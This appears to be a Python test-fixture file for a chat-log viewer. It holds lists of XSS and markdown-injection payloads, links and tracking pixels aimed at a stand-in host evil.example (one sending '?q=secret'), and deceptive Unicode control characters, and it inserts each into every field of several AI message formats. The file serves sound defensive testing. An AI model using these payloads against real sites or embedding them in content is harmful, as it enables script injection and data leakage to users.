"""Hostile texts, and messages of every format with a hostile text in every field."""

import json
from collections.abc import Iterator
from typing import Any

# Modelled on the vectors of the OWASP cheat sheet on filter evasion.
SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)' x='",
    "</pre></details></article><script>alert(1)</script>",
    "</textarea></title></style><script>alert(1)</script>",
    "<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<div hx-get=//evil.example hx-trigger=load hx-on::load=alert(1)>x</div>",
    "<div data-hx-get=/sessions data-hx-trigger=load>x</div>",
    "<img src=//evil.example/pixel.png>",
    "<style>@import '//evil.example';</style>",
    "{{ 7 * 7 }}{% raw %}",
    "\x00<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "![x](https://evil.example/pixel.png?q=secret)",
    "![x](//evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](sessiond-asset:../../logout)",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    '<https://evil.example/"onclick=alert(1)>',
    "[x]: https://evil.example 'title\" onclick=alert(1)'\n\n[x]",
    "[a](https://a.example \"x' onmouseover='alert(1)\")",
    "```html\n<script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> |\n|-|\n| [x](javascript:alert(1)) |",
    "[click](/logout)",
    "# <script>alert(1)</script>",
]
DECEPTIVE = [
    *("\u202e", "\u202a", "\u2066", "\u2069", "\u200b", "\u200e", "\u200f", "\u061c", "\ufeff"),
    *("\x00", "\x07", "\x08", "\x1b", "\x7f", "\x85", "\x9b", "\xad", "\u2028", "\u2060"),
    *("\U000e0041", "\U000e007f", "\U000e0100", "\u3164", "\ud800"),
]
HOSTILE = [*SCRIPTS, *MARKDOWN, *(f"a{c}b" for c in DECEPTIVE)]
ALL_IN_ONE = "\n\n".join(HOSTILE)
LONG_LINE = "<b>x</b>" * 655_360  # 5 MiB without a line break


def messages_with(text: str) -> Iterator[tuple[str, dict[str, Any]]]:
    """Yield messages and the names of their formats, with a text in every field."""
    image = {"url": text, "detail": text}
    function = {"name": text, "arguments": text}
    call = {"id": text, "type": "function", "function": function}
    yield (
        "openai",
        {
            "role": "user",
            "name": text,
            "content": [
                {"type": "text", "text": text},
                {"type": "image_url", "image_url": image},
                {"type": "image_url", "image_url": {"url": f"data:image/svg+xml,{text}"}},
                {"type": "image_url", "image_url": {"url": f"https://evil.example/{text}"}},
                {"type": "image_url", "image_url": {"url": f"sessiond-asset-{text}"}},
                {"type": "input_audio", "input_audio": {"data": "AAAA", "format": text}},
                {"type": "file", "file": {"file_data": "data:text/html,x", "filename": text}},
                {"type": "file", "file": {"file_id": text}},
            ],
        },
    )
    yield (
        "openai",
        {
            "role": "assistant",
            "content": text,
            "refusal": text,
            "reasoning_content": text,
            "annotations": [
                {"type": "url_citation", "url_citation": {"url": text, "title": text}},
                {"type": "url_citation", "url_citation": {"url": f"https://{text}", "title": ""}},
            ],
            "tool_calls": [call, {"id": "c", "type": "function", "function": function}],
        },
    )
    yield "openai", {"role": "tool", "tool_call_id": text, "content": text, "name": text}
    yield "openai", {"role": "tool", "tool_call_id": "other", "content": text}
    yield "openai", {"role": "developer", "content": text}
    yield "openai", {"type": "function_call", "call_id": text, "name": text, "arguments": text}
    yield "openai", {"type": "function_call_output", "call_id": text, "output": text}
    yield "openai", {"type": "reasoning", "summary": [{"type": "summary_text", "text": text}]}
    yield "openai", {"type": "mcp_call", "id": text, "name": text, "error": text, "output": text}
    yield (
        "anthropic",
        {
            "role": "assistant",
            "content": [
                {"type": "text", "text": text, "citations": [{"url": text, "title": text}]},
                {"type": "thinking", "thinking": text, "signature": text},
                {"type": "tool_use", "id": "t", "name": text, "input": {text: text}},
            ],
        },
    )
    yield (
        "anthropic",
        {
            "role": "user",
            "content": [
                {"type": "tool_result", "tool_use_id": "t", "content": text, "is_error": True},
                {"type": "image", "source": {"type": "url", "url": text}},
                {"type": "document", "title": text, "source": {"type": "text", "data": text}},
            ],
        },
    )
    yield (
        "gemini",
        {
            "role": "model",
            "parts": [
                {"text": text},
                {"text": text, "thought": True},
                {"functionCall": {"name": text, "args": {text: text}}},
                {"executableCode": {"language": text, "code": text}},
                {"fileData": {"mimeType": text, "fileUri": text}},
            ],
        },
    )
    yield (
        "gemini",
        {
            "role": "user",
            "parts": [{"functionResponse": {"name": text, "response": {"output": text}}}],
        },
    )


def as_json(message: dict[str, Any]) -> str:
    """Return the JSON of a message; half surrogate pairs are escaped, as in programs' JSON."""
    return json.dumps(message)
